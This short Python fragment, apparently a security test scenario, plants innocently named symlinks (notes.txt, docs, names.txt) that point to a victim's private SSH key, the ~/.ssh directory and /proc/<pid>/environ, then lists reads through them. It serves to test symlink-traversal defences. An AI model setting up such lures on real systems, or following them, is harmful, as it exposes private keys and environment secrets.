"""Leaves links that the person's side reads through: to a file, a directory, and into /proc.

Then: read notes.txt
Then: read docs/id_rsa
Then: read names.txt
"""

os.symlink(Path(at.home, ".ssh/id_rsa"), "notes.txt")
os.symlink(Path(at.home, ".ssh"), "docs")
os.symlink(f"/proc/{at.victim}/environ", "names.txt")
